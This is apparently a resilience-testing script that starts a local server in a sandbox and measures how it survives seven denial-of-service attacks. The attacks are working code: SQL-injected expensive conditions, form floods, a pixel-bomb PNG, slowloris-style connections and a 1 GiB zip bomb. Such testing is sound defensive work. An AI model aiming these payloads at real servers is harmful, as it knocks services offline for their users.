#!/usr/bin/env python3
"""Runs each attack on a fresh server for a bounded time while a prober asks a
normal query (LIST&P) every 50 ms, and prints per attack: the server's peak
resident memory, p50/p99/max of the normal queries and how many failed, the
disk written into the data folder, and whether the server recovered (a normal
query answered correctly within 10 s after the attack stopped).

    abuse.py SERVER SCHEMA_TOOL [--seconds S] [--only NAME ...]
"""
import argparse
import base64
import io
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tools"))
import catalogue_server  # noqa: E402
import sample_catalogue  # noqa: E402
from harness import exchange, free_port  # noqa: E402
from pngfile import flat_png, noise_png  # noqa: E402

PROBE = b"GET /dbAccess/LIST&P HTTP/1.1\r\nHost: localhost\r\n\r\n"
PROBE_TIMEOUT = 10.0
JOIN_TABLE = "pict_group_sub_level_infos"


def bomb_zip(unpacked):
    """One entry of `unpacked` zero bytes, deflated (about a thousandth of it)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("bomb.png", "w", force_zip64=True) as entry:
            block = bytes(1 << 20)
            for _ in range(unpacked >> 20):
                entry.write(block)
    return buffer.getvalue()


def post(path, body, content_type="text/plain"):
    return (b"POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: %s\r\n"
            b"Content-Length: %d\r\n\r\n" % (path.encode(), content_type.encode(), len(body))
            + body)


def ask(port, request, timeout=60.0):
    try:
        return exchange(port, request, timeout=timeout)
    except OSError:
        return b""


def body_of(answer):
    return answer.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in answer else b""


def looping(port, stop, make_request, threads):
    def run():
        while not stop.is_set():
            ask(port, make_request())
    workers = [threading.Thread(target=run, daemon=True) for _ in range(threads)]
    for w in workers:
        w.start()
    return workers


# Attacks: each starts its load and returns the threads to join after `stop`.

def condition_join(port, stop, ctx):
    tables = ",".join("%s t%d" % (JOIN_TABLE, i) for i in range(8))
    condition = "(SELECT count(*) FROM %s)>0" % tables
    request = ("GET /dbAccess/SUB_GROUP@list&%s HTTP/1.1\r\n\r\n"
               % condition.replace(" ", "%20")).encode()
    return looping(port, stop, lambda: request, 64)


def condition_blob(port, stop, ctx):
    request = b"GET /dbAccess/SUB_GROUP@list&length(hex(randomblob(100000000)))>0 HTTP/1.1\r\n\r\n"
    return looping(port, stop, lambda: request, 8)


def form_items(port, stop, ctx):
    request = post("/print/init", b"a&" * (4 << 20))  # 8 MB of form items
    return looping(port, stop, lambda: request, 2)


def print_unended(port, stop, ctx):
    page = b"img=data:image/png;base64," + base64.b64encode(ctx["noise"])

    def run():
        while not stop.is_set():
            session = body_of(ask(port, post("/print/init", b"width=210&height=297"))).decode()
            if not session:
                time.sleep(0.1)
                continue
            for _ in range(8):
                if stop.is_set():
                    break
                ask(port, post("/print/add", b"id=%s&%s" % (session.encode(), page)))
    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    return [worker]


def pixel_bomb(port, stop, ctx):
    session = body_of(ask(port, post("/print/init", b"width=210&height=297"))).decode()
    request = post("/print/add", b"id=%s&img=data:image/png;base64,%s"
                   % (session.encode(), base64.b64encode(ctx["flat"])))
    return looping(port, stop, lambda: request, 16)


def slow_body(port, stop, ctx, count=4200):
    def run():
        conns = []
        head = post("/print/add", b"x" * 1000000)[:-1000000] + b"i"
        while not stop.is_set() and len(conns) < count:
            try:
                s = socket.socket()
                s.setblocking(False)
                s.connect_ex(("127.0.0.1", port))
                conns.append([s, head])
            except OSError:
                time.sleep(0.05)
        next_byte = time.monotonic()
        while not stop.is_set():
            if time.monotonic() >= next_byte:
                next_byte = time.monotonic() + 10
                for conn in conns:
                    try:
                        sent = conn[0].send(conn[1][:1] if conn[1] else b"d")
                        conn[1] = conn[1][sent:]
                    except OSError:
                        pass
                # Sends the rest of the header at once the first time round.
                for conn in conns:
                    try:
                        if conn[1]:
                            conn[1] = conn[1][conn[0].send(conn[1]):]
                    except OSError:
                        pass
            time.sleep(0.05)
        for conn in conns:
            conn[0].close()
    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    return [worker]


def zip_bomb(port, stop, ctx):
    request = b"GET /dbAccess/SOZAI_DOWNLOAD@kind=2&folder=bomb&value=1 HTTP/1.1\r\n\r\n"

    def run():
        ask(port, request, timeout=600)
    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    return [worker]


ATTACKS = [
    ("condition_join", condition_join, "64 clients, 8-way self-join in SUB_GROUP"),
    ("condition_blob", condition_blob, "8 clients, hex(randomblob(1e8)) in SUB_GROUP"),
    ("form_items", form_items, "2 clients, 8 MB of a&a&... to print/init"),
    ("print_unended", print_unended, "sessions of 8 noise pages (27 MB) never ended"),
    ("pixel_bomb", pixel_bomb, "16 clients, 5700x5700 flat PNG to print/add"),
    ("slow_body", slow_body, "4200 connections, body announced, 1 byte/10 s"),
    ("zip_bomb", zip_bomb, "SOZAI_DOWNLOAD of 1 MB archives unpacking to 1 GiB"),
]


def rss_kib(pid, field):
    try:
        with open("/proc/%d/status" % pid) as status:
            for line in status:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def folder_bytes(folder):
    total = 0
    for root, _, files in os.walk(folder):
        for name in files:
            try:
                total += os.lstat(os.path.join(root, name)).st_blocks * 512
            except OSError:
                pass
    return total


def percentile(values, p):
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * p))] if ordered else float("nan")


def run_attack(args, name, attack, template, stand_in, ctx):
    root = tempfile.mkdtemp(prefix="abuse-")
    home = os.path.join(root, "home")
    data_home = os.path.join(home, ".local", "share")
    data = os.path.join(data_home, "jp.co.tavrim.Pelloran.V3", "data")
    shutil.copytree(template, data)
    runtime = os.path.join(root, "run")
    os.makedirs(runtime, mode=0o700)
    port = free_port()
    os.makedirs(os.path.join(home, ".config", "Tavrim"))
    with open(os.path.join(home, ".config", "Tavrim", "Quillbox.conf"), "w") as conf:
        conf.write("[Server]\nport=%d\n" % port)
    env = dict(os.environ, HOME=home, XDG_CONFIG_HOME=os.path.join(home, ".config"),
               XDG_DATA_HOME=data_home, XDG_RUNTIME_DIR=runtime)
    env.pop("DISPLAY", None)
    env.pop("WAYLAND_DISPLAY", None)
    log = open(os.path.join(root, "server.log"), "wb")
    proc = subprocess.Popen([args.server, "--catalogue-url", stand_in.url], env=env,
                            stderr=log, stdout=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 20
        while not ask(port, PROBE, timeout=1) and time.monotonic() < deadline:
            time.sleep(0.05)
        ask(port, b"GET /dbAccess/DB_URL HTTP/1.1\r\n\r\n")
        reference = ask(port, PROBE)
        disk_before = folder_bytes(data)

        stop = threading.Event()
        latencies, failures = [], [0]

        def probe():
            while not stop.is_set():
                started = time.monotonic()
                answer = ask(port, PROBE, timeout=PROBE_TIMEOUT)
                latencies.append((time.monotonic() - started) * 1000)
                if answer != reference:
                    failures[0] += 1
                time.sleep(0.05)
        prober = threading.Thread(target=probe, daemon=True)
        prober.start()
        workers = attack(port, stop, ctx)
        time.sleep(args.seconds)
        stop.set()
        peak = rss_kib(proc.pid, "VmHWM")
        disk = folder_bytes(data) - disk_before
        prober.join(PROBE_TIMEOUT + 5)
        for w in workers:
            w.join(0.1)
        recovered = False
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and proc.poll() is None:
            if ask(port, PROBE, timeout=2) == reference:
                recovered = True
                break
            time.sleep(0.2)
        after = rss_kib(proc.pid, "VmRSS")
        print("  %-15s %8.0f %8.0f %9.1f %9.1f %9.1f %7d %9.1f %9s" % (
            name, peak / 1024, after / 1024, percentile(latencies, 0.5),
            percentile(latencies, 0.99), max(latencies or [float("nan")]), failures[0],
            disk / (1 << 20), "yes" if recovered else "NO"), flush=True)
    finally:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()
        if args.keep:
            print("    kept " + root)
        else:
            shutil.rmtree(root, ignore_errors=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("server")
    parser.add_argument("schema_tool")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--products", type=int, default=2000)
    parser.add_argument("--only", nargs="*")
    parser.add_argument("--keep", action="store_true")
    args = parser.parse_args()

    catalogue = sample_catalogue.generate(products=args.products)
    template = tempfile.mkdtemp(prefix="abuse-data-")
    sample_catalogue.write_data_folder(template, catalogue, args.schema_tool)
    stand_in = catalogue_server.StandIn(catalogue)
    bomb = bomb_zip(1 << 30)
    plain_archive = stand_in.archive
    stand_in.archive = lambda folder: bomb if folder == "bomb" else plain_archive(folder)
    stand_in.start()
    ctx = {"noise": noise_png(3000), "flat": flat_png(5700)}
    print("attack rows of %gs each; normal query LIST&P every 50 ms (timeout %gs)"
          % (args.seconds, PROBE_TIMEOUT))
    for name, _, what in ATTACKS:
        if not args.only or name in args.only:
            print("  %-15s %s" % (name, what))
    print("  %-15s %8s %8s %9s %9s %9s %7s %9s %9s" % (
        "attack", "peakMiB", "afterMiB", "p50 ms", "p99 ms", "max ms", "failed", "diskMiB",
        "recovered"))
    try:
        for name, attack, _ in ATTACKS:
            if not args.only or name in args.only:
                run_attack(args, name, attack, template, stand_in, ctx)
    finally:
        stand_in.stop()
        shutil.rmtree(template, ignore_errors=True)


if __name__ == "__main__":
    main()
